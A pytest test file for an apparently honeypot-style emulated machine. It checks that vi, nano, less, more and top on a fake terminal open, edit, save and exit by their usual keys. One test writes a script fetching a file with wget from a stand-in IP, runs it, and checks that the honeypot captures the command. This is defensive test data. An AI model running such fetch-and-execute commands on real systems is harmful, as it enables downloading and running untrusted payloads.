"""Pagers, editors and top on a terminal: opened, scrolled, edited, saved, interrupted and left by their usual keys."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_actors.contracts.machine import Pty
from tests.decnet_actors.machine.shells import NOW, Visitor, machine, run

TERMINAL = Pty(term="xterm", columns=80, rows=10)
LINES = "".join(f"line {number}\n" for number in range(1, 41))


def seated(distribution="debian:12"):
    host = machine(distribution=distribution)
    host.files.write("/root/f", LINES.encode(), now=NOW)
    return host, Visitor(host, pty=TERMINAL).open()


def held(host, path="/root/f"):
    return host.files.read(path).decode()


def is_at_prompt(seat):
    """Return whether a shell answers."""
    return b"here\r\n" in seat.type("echo he''re\r")


@pytest.mark.parametrize("distribution", ["debian:12", "alpine:3.19", "router:mipsel"])
@pytest.mark.parametrize("leave", [":q\r", ":q!\r", "ZZ", ":wq\r", "i\x1b:q\r"])
def test_vi_is_left_by_its_keys(distribution, leave):
    host, seat = seated(distribution)
    shown = seat.type("vi f\r")
    seat.type(leave)

    assert b"line 1" in shown
    assert b"line 10" not in shown
    assert is_at_prompt(seat)
    assert LINES == held(host)


def test_vi_edits_and_writes():
    host, seat = seated()
    seat.type("vi f\r")
    seat.type("dd")
    seat.type("ifirst \x1b")
    seat.type("onew\rlines\x1b")
    seat.type("Gx:wq\r")

    text = held(host)
    assert text.startswith("first line 2\nnew\nlines\nline 3\n")
    assert text.endswith("\nine 40\n")
    assert is_at_prompt(seat)


def test_vi_keeps_what_is_not_to_be_saved_and_says_so():
    host, seat = seated()
    seat.type("vi f\r")
    seat.type("x")

    assert b"E37: No write since last change" in seat.type(":q\r")
    assert b"Type  :qa!" in seat.type("\x03")
    seat.type(":q!\r")
    assert is_at_prompt(seat)
    assert LINES == held(host)


def test_what_is_written_in_vi_is_captured():
    _, seat = seated()
    seat.type("vi /tmp/new.sh\r")
    seat.type("iwget http://203.0.113.5/x\x1b:wq\r")
    seat.type("sh /tmp/new.sh\r")

    assert b"wget http://203.0.113.5/x\n" in seat.artifacts


def test_nano_edits_asks_and_writes():
    host, seat = seated()
    seat.type("nano f\r")
    seat.type("top \x1b[B\x0b")
    asked = seat.type("\x18")
    seat.type("y")
    seat.type("\r")

    assert b"Save modified buffer?" in asked
    assert held(host).startswith("top line 1\nline 3\n")
    assert is_at_prompt(seat)


@pytest.mark.parametrize("answers", [["n"], ["\x03", "\x18", "n"]])
def test_nano_is_left_without_saving(answers):
    host, seat = seated()
    seat.type("nano f\r")
    seat.type("x\x18")
    for answer in answers:
        seat.type(answer)

    assert LINES == held(host)
    assert is_at_prompt(seat)


def test_less_scrolls_searches_and_is_left():
    _, seat = seated()

    assert b"line 9" in seat.type("less f\r")
    assert b"line 18" in seat.type(" ")
    assert b"line 9" in seat.type("b")
    assert b"(END)" in seat.type("G")
    assert b"line 1\x1b" in seat.type("g")
    assert b"line 25" in seat.type("/line 25\r")
    assert b"Pattern not found" in seat.type("/nosuch\r")
    seat.type("\x03")
    seat.type("q")
    assert is_at_prompt(seat)


@pytest.mark.parametrize("leave", ["q", "\x03", "    "])
def test_more_shows_page_after_page_and_is_left(leave):
    _, seat = seated()
    shown = seat.type("more f\r")

    assert b"line 9\r\n" in shown
    assert b"--More--(22%)" in shown
    seat.type(leave)
    assert is_at_prompt(seat)


@pytest.mark.parametrize("distribution", ["debian:12", "alpine:3.19", "dvr:armv7"])
@pytest.mark.parametrize("leave", ["q", "\x03"])
def test_top_is_left_by_one_key(distribution, leave):
    _, seat = seated(distribution)
    shown = seat.type("top\r")
    seat.type(leave)

    assert b"COMMAND" in shown
    assert is_at_prompt(seat)


def test_without_a_terminal_pagers_pass_on_and_editors_end():
    host = machine()
    host.files.write("/root/f", LINES.encode(), now=NOW)

    assert LINES == run(host, "less /root/f").output.decode() == run(host, "more /root/f").output.decode()
    assert 1 == run(host, "vi /root/f").status == run(host, "nano /root/f").status


def test_a_peer_that_goes_away_ends_the_editor():
    host, seat = seated()
    seat.type("vi f\r")
    seat.type("ilost")
    seat.close()

    assert seat.ended
    assert LINES == held(host)


@pytest.mark.slow
@given(
    st.lists(
        st.sampled_from([*"ioOaAxdgGZZp$0hjkl:wq!/nNyY", "\x1b", "\r", "\x7f", "\x03", "\x18", "\x1b[A", "\x1b[6~"])
    )
)
def test_no_keys_break_the_shell(keys):
    _, seat = seated()
    for program in ("vi", "nano", "less"):
        seat.type(f"{program} /root/f\r")
        seat.type("".join(keys))
        seat.type("\x1b\x1b:q!\r")
        seat.type("\x18n")
        seat.type("q\x15\x03\r")

        assert is_at_prompt(seat) or seat.ended
